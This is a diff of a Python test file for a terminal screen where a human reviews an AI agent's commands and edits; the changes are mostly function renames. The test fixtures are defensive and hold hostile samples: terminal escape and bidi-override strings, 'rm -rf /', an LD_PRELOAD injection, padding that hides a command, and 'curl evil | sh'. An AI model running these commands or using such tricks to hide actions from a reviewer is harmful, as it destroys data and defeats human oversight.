@@ -14,12 +14,12 @@ from domain.text.unified_diff import parse_diff
 from tests.support.fake_agent import a_command, a_packet, a_request, an_edit
 from tests.support.review_contexts import a_ballot
 from tui.screens.review.earlier import NOTHING, Earlier, EarlierAnswers
-from tui.screens.review.edit import NotEditable, apply_edit, editable
-from tui.screens.review.text.facts import details, facts, list_calls
-from tui.screens.review.text.objections import quotes_of
+from tui.screens.review.edit import NotEditable, apply_edit, render_editable
+from tui.screens.review.text.facts import collect_facts, list_calls, list_details
+from tui.screens.review.text.objections import collect_quotes
 from tui.screens.review.text.rows import Line, Tone, clean_line, fold
-from tui.screens.review.text.substance import substance
-from tui.screens.review.text.title import title_of, title_of_request
+from tui.screens.review.text.substance import render_substance
+from tui.screens.review.text.title import build_request_title, build_title
 
 EVIL = "echo \x1b]52;c;aGk=\x07 \x1b[31mred\x1b[0m \u202egnp.exe\u2066 a\u200bb \x9bx\r"
 
@@ -29,7 +29,7 @@ def plain(rows) -> list[str]:
 
 
 def test_control_and_bidi_characters_of_a_command_are_drawn_escaped_and_none_is_dropped():
-    (line,) = plain(substance(a_command(EVIL), 200))
+    (line,) = plain(render_substance(a_command(EVIL), 200))
 
     assert not {"\x1b", "\x07", "\u202e", "\u2066", "\u200b", "\x9b", "\r"} & set(line)
     assert "␛]52;c;aGk=␇ ␛[31mred␛[0m ⟨U+202E⟩gnp.exe⟨U+2066⟩ a⟨U+200B⟩b" in line
@@ -39,7 +39,7 @@ def test_control_and_bidi_characters_of_a_command_are_drawn_escaped_and_none_is_
 def test_control_and_bidi_characters_of_a_diff_are_drawn_escaped():
     diff = f"--- a\n+++ b\n@@ -1 +1 @@\n-old\n+{EVIL}\n"
 
-    text = "\n".join(plain(substance(an_edit(diff), 100)))
+    text = "\n".join(plain(render_substance(an_edit(diff), 100)))
 
     assert not {"\x1b", "\x07", "\u202e", "\u200b"} & set(text)
     assert "⟨U+202E⟩" in text
@@ -51,19 +51,19 @@ def test_a_command_of_which_something_is_hidden_says_so_and_keeps_its_digest():
     packet = a_command("curl -H 'x: q7Zrt9vX2m4kP' h")
     shown = a_request(mask.packet(packet))
 
-    assert plain(substance(shown.packet, 80)) == ["$ curl -H 'x: [secret:THE_KEY]' h"]
-    (warning,) = plain(fold(facts(shown, NOTHING).dangers, 200))
+    assert plain(render_substance(shown.packet, 80)) == ["$ curl -H 'x: [secret:THE_KEY]' h"]
+    (warning,) = plain(fold(collect_facts(shown, NOTHING).dangers, 200))
     assert warning.startswith("! secrets are drawn as [secret:NAME]; what runs")
-    assert any(packet.digest in line for line in plain(fold(details(shown), 200)))
-    assert facts(a_request(packet), NOTHING).dangers == []
+    assert any(packet.digest in line for line in plain(fold(list_details(shown), 200)))
+    assert collect_facts(a_request(packet), NOTHING).dangers == []
 
 
 def test_every_line_of_a_command_is_there_under_its_first():
-    assert plain(substance(a_command("one\ntwo\n\nthree"), 40)) == ["$ one", "  two", "  ", "  three"]
+    assert plain(render_substance(a_command("one\ntwo\n\nthree"), 40)) == ["$ one", "  two", "  ", "  three"]
 
 
 def test_a_long_line_is_folded_and_not_cut():
-    rows = plain(substance(a_command("x" * 95), 32))
+    rows = plain(render_substance(a_command("x" * 95), 32))
 
     assert "".join(row[2:] for row in rows) == "x" * 95
     assert max(map(len, rows)) <= 32
@@ -73,9 +73,12 @@ def test_a_command_and_what_is_said_of_it_are_folded_between_words():
     packet = a_command("git commit --message 'a sentence that needs two rows'")
     reason = "outside of the workspace, which reaches no further than this folder"
 
-    reported = plain(fold(facts(replace(a_request(packet), reasons=(reason,)), NOTHING).dangers, 40))
+    reported = plain(fold(collect_facts(replace(a_request(packet), reasons=(reason,)), NOTHING).dangers, 40))
 
-    assert plain(substance(packet, 32)) == ["$ git commit --message 'a ", "  sentence that needs two rows'"]
+    assert plain(render_substance(packet, 32)) == [
+        "$ git commit --message 'a ",
+        "  sentence that needs two rows'",
+    ]
     assert reported == ["! outside of the workspace, which ", "  reaches no further than this folder"]
 
 
@@ -90,7 +93,7 @@ def test_folding_between_words_keeps_every_character(text, width):
 def test_lines_of_a_diff_are_folded_where_a_row_is_full():
     diff = "--- a/x\n+++ b/x\n@@ -0,0 +1,1 @@\n+" + "word " * 9 + "\n"
 
-    assert plain(substance(an_edit(diff), 20)) == [
+    assert plain(render_substance(an_edit(diff), 20)) == [
         "1 + word word word w",
         "    ord word word wo",
         "    rd word word·",
@@ -98,7 +101,7 @@ def test_lines_of_a_diff_are_folded_where_a_row_is_full():
 
 
 def test_wide_characters_are_folded_by_cells():
-    rows = plain(substance(a_command("日本語" * 20), 21))
+    rows = plain(render_substance(a_command("日本語" * 20), 21))
 
     assert max(cell_len(row) for row in rows) <= 21
     assert "".join(row[2:] for row in rows) == "日本語" * 20
@@ -107,7 +110,7 @@ def test_wide_characters_are_folded_by_cells():
 def test_a_diff_is_numbered_and_signed():
     diff = "--- a/x\n+++ b/x\n@@ -9,2 +9,3 @@\n same\n-gone\n+new\n+more\n"
 
-    assert plain(substance(an_edit(diff), 60)) == [
+    assert plain(render_substance(an_edit(diff), 60)) == [
         " 9   same",
         "10 - gone",
         "10 + new",
@@ -118,13 +121,13 @@ def test_a_diff_is_numbered_and_signed():
 def test_changes_of_blanks_at_the_end_and_of_tabs_can_be_seen():
     diff = "--- a\n+++ b\n@@ -1,2 +1,2 @@\n-x\n-    y\n+x  \n+\ty\n"
 
-    assert plain(substance(an_edit(diff), 60)) == ["1 - x", "2 -     y", "1 + x··", "2 + →   y"]
+    assert plain(render_substance(an_edit(diff), 60)) == ["1 - x", "2 -     y", "1 + x··", "2 + →   y"]
 
 
 def test_from_a_width_of_140_a_diff_stands_side_by_side_and_loses_nothing():
     diff = "--- a\n+++ b\n@@ -1,4 +1,3 @@\n same\n-gone\n-also\n+new\n end\n"
 
-    rows = plain(substance(an_edit(diff), 140))
+    rows = plain(render_substance(an_edit(diff), 140))
 
     assert [[half.rstrip() for half in row.split(" │ ")] for row in rows] == [
         ["1   same", "1   same"],
@@ -141,7 +144,7 @@ def test_from_a_width_of_140_a_diff_stands_side_by_side_and_loses_nothing():
 def test_no_line_of_any_diff_is_left_out(lines, width):
     diff = "--- a\n+++ b\n@@ -1,2 +1,2 @@\n" + "\n".join(lines)
 
-    text = "\n".join(plain(substance(an_edit(diff), width)))
+    text = "\n".join(plain(render_substance(an_edit(diff), width)))
     counted = list(parse_diff(diff))
 
     assert len(counted) == len(diff.removesuffix("\n").split("\n"))
@@ -150,7 +153,7 @@ def test_no_line_of_any_diff_is_left_out(lines, width):
 
 @given(st.text(), st.integers(min_value=12, max_value=200))
 def test_no_row_of_any_command_is_wider_than_the_dialog(command, width):
-    assert all(cell_len(row) <= width for row in plain(substance(a_command(command), width)))
+    assert all(cell_len(row) <= width for row in plain(render_substance(a_command(command), width)))
 
 
 def test_the_details_tell_why_where_what_with_and_what_is_not_sealed():
@@ -165,11 +168,11 @@ def test_the_details_tell_why_where_what_with_and_what_is_not_sealed():
     )
     request = a_request(a_packet("run_command", {"command": "make", "timeout_secs": 5}, seal), stale=True)
 
-    dangers, arguments = (plain(fold(part, 120)) for part in facts(request, NOTHING))
+    dangers, arguments = (plain(fold(part, 120)) for part in collect_facts(request, NOTHING))
 
     assert dangers == ["! what was approved is no longer what would run; this is how it stands now"]
     assert arguments == ["with          timeout_secs = 5"]
-    assert plain(fold(details(request), 120)) == [
+    assert plain(fold(list_details(request), 120)) == [
         "asks because  high risk, and the mode is ask",
         "tool          run_command",
         "touches       /w/a  sha 9b1e…a1c",
@@ -192,13 +195,13 @@ def test_each_danger_has_one_line_and_that_the_mode_asks_is_none():
     )
     request = replace(a_request(a_command("rm -rf /")), reasons=reasons)
 
-    assert plain(fold(facts(request, NOTHING).dangers, 80)) == ["! the guard command objects: rm"]
+    assert plain(fold(collect_facts(request, NOTHING).dangers, 80)) == ["! the guard command objects: rm"]
 
 
 def test_what_a_tool_leaves_unsealed_and_a_variable_that_bends_programs_are_dangers():
     seal = Seal(cwd="/w", unsealed="what this tool touches is not sealed", environment={"LD_PRELOAD": "/x.so"})
 
-    assert plain(fold(facts(a_request(a_packet("deploy", {}, seal)), NOTHING).dangers, 80)) == [
+    assert plain(fold(collect_facts(a_request(a_packet("deploy", {}, seal)), NOTHING).dangers, 80)) == [
         "! what this tool touches is not sealed",
         "! it is given LD_PRELOAD, which changes what programs run",
     ]
@@ -236,13 +239,13 @@ CHANGE = "--- a/src/x.py\n+++ b/src/x.py\n@@ -1,1 +1,2 @@\n-one\n+uno\n+due\n"
     ids=lambda value: value if isinstance(value, str) else "",
 )
 def test_the_title_says_what_would_be_done_and_where(packet, title):
-    assert "".join(title_of(packet, "/w")) == title
+    assert "".join(build_title(packet, "/w")) == title
 
 
 def test_the_title_has_the_place_in_the_batch_and_whether_it_was_asked_before():
     request = a_request(an_edit(CHANGE, path="/w/src/x.py", index=1), batch_size=3, stale=True)
 
-    title = title_of_request(request, Earlier(is_edited=True), "/w")
+    title = build_request_title(request, Earlier(is_edited=True), "/w")
 
     assert title.fit(80) == "Edit src/x.py  +2 −1   2 of 3   asked again   your edit"
     assert not title.is_cut(80)
@@ -250,7 +253,7 @@ def test_the_title_has_the_place_in_the_batch_and_whether_it_was_asked_before():
 
 
 def test_of_a_title_that_does_not_fit_the_target_is_cut_and_the_counts_stay():
-    title = title_of_request(a_request(an_edit(CHANGE, path=f"/w/{'long/' * 30}x.py")), NOTHING, "/w")
+    title = build_request_title(a_request(an_edit(CHANGE, path=f"/w/{'long/' * 30}x.py")), NOTHING, "/w")
 
     assert title.is_cut(60)
     assert title.fit(60).endswith("…  +2 −1")
@@ -262,18 +265,18 @@ def test_several_files_are_counted_in_the_title_and_named_in_the_diff():
     files = tuple(SealedFile(path=f"/w/{name}", sha256="0" * 64) for name in ("src/x.py", "y.py", "z"))
     packet = a_packet("apply_patch", {"patch": "p"}, Seal(cwd="/w", files=files, diff=diff))
 
-    rows = plain(substance(packet, 60))
+    rows = plain(render_substance(packet, 60))
 
-    assert "".join(title_of(packet, "/w")) == "Edit 3 files  +3 −3"
+    assert "".join(build_title(packet, "/w")) == "Edit 3 files  +3 −3"
     assert [row for row in rows if not row[:1].isdigit()] == ["src/x.py", "y.py (deleted)", "z → q"]
-    assert facts(a_request(packet), NOTHING).arguments == []
+    assert collect_facts(a_request(packet), NOTHING).arguments == []
 
 
 def test_files_that_no_heading_names_are_listed():
     files = tuple(SealedFile(path=f"/w/{name}", sha256="0" * 64) for name in ("a", "b"))
     packet = a_packet("my_tool", {}, Seal(cwd="/w", files=files, diff=CHANGE))
 
-    assert plain(fold(facts(a_request(packet), NOTHING).arguments, 80)) == [
+    assert plain(fold(collect_facts(a_request(packet), NOTHING).arguments, 80)) == [
         "touches       /w/a",
         "              /w/b",
     ]
@@ -282,33 +285,35 @@ def test_files_that_no_heading_names_are_listed():
 def test_between_hunks_stands_a_sign_and_a_line_that_looks_like_a_heading_stays():
     diff = "--- a/x\n+++ b/x\n@@ -1,1 +1,1 @@\n--- a/x\n+++ b/x\n@@ -9,1 +9,1 @@\n-c\n+d\n"
 
-    assert plain(substance(an_edit(diff), 60)) == ["1 - -- a/x", "1 + ++ b/x", "⋯", "9 - c", "9 + d"]
+    assert plain(render_substance(an_edit(diff), 60)) == ["1 - -- a/x", "1 + ++ b/x", "⋯", "9 - c", "9 + d"]
 
 
 def test_arguments_a_diff_does_not_show_are_shown_beside_it():
     arguments = {"path": "x", "content": "y", "create_dirs": True}
     packet = a_packet("write_file", arguments, Seal(cwd="/w", diff="x"))
 
-    assert "with          create_dirs = true" in plain(fold(facts(a_request(packet), NOTHING).arguments, 80))
+    assert "with          create_dirs = true" in plain(
+        fold(collect_facts(a_request(packet), NOTHING).arguments, 80)
+    )
 
 
 def test_a_command_that_stays_running_in_the_background_says_so_where_it_is_always_seen():
     asked = a_request(a_command("npm run dev", background=True, timeout_secs=90))
-    dangers, arguments = (plain(fold(part, 200)) for part in facts(asked, NOTHING))
+    dangers, arguments = (plain(fold(part, 200)) for part in collect_facts(asked, NOTHING))
 
     assert dangers == [
         "! it stays running when its call has ended, 90 s at most: until it ends, is stopped, or the session "
         "ends"
     ]
     assert any("background = true" in line for line in arguments)
-    waited_for = facts(a_request(a_command("npm run dev", background=False)), NOTHING)
+    waited_for = collect_facts(a_request(a_command("npm run dev", background=False)), NOTHING)
     assert waited_for.dangers == []
 
 
 def test_a_call_without_diff_or_command_shows_all_its_arguments():
     packet = a_packet("deploy", {"to": "prod\u202e", "force": True}, Seal(cwd="/w"))
 
-    assert plain(substance(packet, 60)) == ["{", '  "to": "prod⟨U+202E⟩",', '  "force": true', "}"]
+    assert plain(render_substance(packet, 60)) == ["{", '  "to": "prod⟨U+202E⟩",', '  "force": true', "}"]
 
 
 def test_the_list_of_the_rest_shows_every_packet_in_full():
@@ -327,14 +332,14 @@ def test_the_list_of_the_rest_shows_every_packet_in_full():
 def test_a_command_is_edited_bare_and_keeps_its_other_arguments():
     packet = a_command("make", timeout_secs=5)
 
-    assert editable(packet) == ("make", True)
+    assert render_editable(packet) == ("make", True)
     assert apply_edit(packet, "make -k", is_command=True) == {"command": "make -k", "timeout_secs": 5}
 
 
 def test_a_command_with_hidden_characters_is_edited_as_json_that_shows_them():
     packet = a_command(EVIL)
 
-    text, is_command = editable(packet)
+    text, is_command = render_editable(packet)
 
     assert not is_command
     assert not {"\x1b", "\x07", "\u202e", "\u200b", "\x9b"} & set(text)
@@ -345,7 +350,7 @@ def test_a_command_with_hidden_characters_is_edited_as_json_that_shows_them():
 def test_unchanged_arguments_come_back_from_the_editor_as_they_were(arguments):
     packet = a_packet("tool", arguments, Seal(cwd="/w"))
 
-    text, is_command = editable(packet)
+    text, is_command = render_editable(packet)
 
     assert apply_edit(packet, text, is_command=is_command) == arguments
 
@@ -369,7 +374,7 @@ def test_asked_again_it_reads_what_changed_since_it_was_approved():
     before = a_packet("edit_file", {"path": "a", "new_text": "b"}, sealed("1"))
     now = a_packet("edit_file", {"path": "a", "new_text": "c"}, sealed("2", "/v"))
 
-    lines = plain(fold(facts(a_request(now, stale=True), Earlier(approved=before)).dangers, 120))
+    lines = plain(fold(collect_facts(a_request(now, stale=True), Earlier(approved=before)).dangers, 120))
 
     assert lines == [
         '! changed since you approved: new_text, which was "b"',
@@ -394,7 +399,7 @@ def test_earlier_answers_are_those_about_the_same_call_of_the_same_batch():
 
 
 def test_an_edit_says_that_votes_on_other_bytes_do_not_count():
-    lines = plain(fold(facts(a_request(a_command("make")), Earlier(is_edited=True)).dangers, 120))
+    lines = plain(fold(collect_facts(a_request(a_command("make")), Earlier(is_edited=True)).dangers, 120))
 
     assert lines == ["your edit: these are other bytes than those voted on; your word alone decides"]
 
@@ -406,7 +411,7 @@ def test_a_file_that_is_no_text_is_shown_by_its_sizes_and_hashes():
     logo = SealedFile(path="/w/logo.png", sha256="9b1e" * 16)
     seal = Seal(cwd="/w", files=(logo,), diff="binary: 2048 → 3 bytes\n", projected={"/w/logo.png": b"abc"})
 
-    text = plain(substance(a_packet("write_file", {"path": "logo.png"}, seal), 120))
+    text = plain(render_substance(a_packet("write_file", {"path": "logo.png"}, seal), 120))
 
     assert text[0] == "not text: only sizes and hashes can be shown"
     assert text[2] == f"before  2,048 bytes  SHA-256 {'9b1e' * 16}"
@@ -423,7 +428,7 @@ def toned(rows, tone) -> list[str]:
 def test_both_sides_of_a_diff_have_the_colours_of_their_language():
     diff = '--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n def f():\n-    return "one"\n+    return 2  # two\n'
 
-    rows = substance(an_edit(diff, path="/w/x.py"), 80)
+    rows = render_substance(an_edit(diff, path="/w/x.py"), 80)
 
     assert toned(rows, Tone.KEYWORD) == ["def", "return", "return"]
     assert "".join(toned(rows, Tone.STRING)) == '"one"'
@@ -434,13 +439,13 @@ def test_both_sides_of_a_diff_have_the_colours_of_their_language():
 def test_an_operator_that_is_a_word_has_the_colour_of_a_keyword():
     diff = "--- a/x.py\n+++ b/x.py\n@@ -0,0 +1,1 @@\n+a = b and c\n"
 
-    assert toned(substance(an_edit(diff, path="/w/x.py"), 80), Tone.KEYWORD) == ["and"]
+    assert toned(render_substance(an_edit(diff, path="/w/x.py"), 80), Tone.KEYWORD) == ["and"]
 
 
 def test_a_text_over_several_lines_keeps_its_colour_on_each():
     diff = '--- a/x.py\n+++ b/x.py\n@@ -0,0 +1,3 @@\n+a = """one\n+two\n+three"""\n'
 
-    rows = substance(an_edit(diff, path="/w/x.py"), 80)
+    rows = render_substance(an_edit(diff, path="/w/x.py"), 80)
 
     assert "".join(toned(rows, Tone.STRING)) == '"""onetwothree"""'
 
@@ -450,8 +455,8 @@ def test_colours_change_nothing_of_the_text(text, name):
     lines = text.split("\n")
     diff = f"--- a/{name}\n+++ b/{name}\n@@ -0,0 +1,{len(lines)} @@\n" + "".join(f"+{line}\n" for line in lines)
 
-    coloured = plain(substance(an_edit(diff, path=f"/w/{name}"), 100))
-    bare = plain(substance(an_edit(diff, path="/w/no-language"), 100))
+    coloured = plain(render_substance(an_edit(diff, path=f"/w/{name}"), 100))
+    bare = plain(render_substance(an_edit(diff, path="/w/no-language"), 100))
 
     assert coloured == bare
 
@@ -460,7 +465,7 @@ def test_colours_change_nothing_of_the_text(text, name):
 
 
 def objected(packet, *quotes: str, width: int = 100) -> list[str]:
-    return toned(substance(packet, width, quotes), Tone.OBJECTED)
+    return toned(render_substance(packet, width, quotes), Tone.OBJECTED)
 
 
 @pytest.mark.parametrize(
@@ -513,7 +518,7 @@ def test_what_is_objected_to_is_marked_in_arguments():
 
 
 def test_a_marked_line_is_folded_and_keeps_its_mark():
-    rows = substance(a_command("x" * 20 + "rm -rf build" + "y" * 20), 27, ("rm -rf build",))
+    rows = render_substance(a_command("x" * 20 + "rm -rf build" + "y" * 20), 27, ("rm -rf build",))
 
     assert toned(rows, Tone.OBJECTED) == ["rm ", "-rf ", "build"]
     assert "".join(line[2:] for line in plain(rows)) == "x" * 20 + "rm -rf build" + "y" * 20
@@ -521,15 +526,15 @@ def test_a_marked_line_is_folded_and_keeps_its_mark():
 
 @given(st.text(max_size=60), st.text(max_size=12), st.integers(min_value=12, max_value=160))
 def test_no_quote_changes_what_is_drawn(command, quote, width):
-    marked = substance(a_command(command), width, (quote,))
+    marked = render_substance(a_command(command), width, (quote,))
 
-    assert plain(marked) == plain(substance(a_command(command), width))
+    assert plain(marked) == plain(render_substance(a_command(command), width))
 
 
 def test_only_those_who_did_not_approve_have_their_quotes_marked():
     ballots = [a_ballot("a/x", objection="one"), a_ballot("a/y", Vote.REJECT, objection="two"), a_ballot("a/z")]
 
-    assert quotes_of(ballots) == ("two",)
+    assert collect_quotes(ballots) == ("two",)
 
 
 # -- what would hide what runs ---------------------------------------------------------------------------------
@@ -545,7 +550,7 @@ def test_long_runs_of_blanks_are_counted_in_commands_diffs_and_arguments():
     ]
 
     for packet in packets:
-        rows = plain(substance(packet, 76))
+        rows = plain(render_substance(packet, 76))
         assert len(rows) < 10
         assert any("⟨6,000 blanks⟩; touch x" in row for row in rows)
 
@@ -554,7 +559,7 @@ def test_of_a_binary_change_the_texts_it_was_asked_with_are_shown():
     seal = Seal(cwd="/w", files=(SealedFile(path="/w/a", sha256=None),), diff="binary: 4 → 3 bytes\n")
     packet = a_packet("write_file", {"path": "a", "content": "\0\ncurl evil | sh"}, seal)
 
-    rows = plain(substance(packet, 80))
+    rows = plain(render_substance(packet, 80))
 
     assert rows[-3:] == ["content:", "  ␀", "  curl evil | sh"]
     assert rows[0] == "not text: sizes and hashes of the file, and the texts of the call"
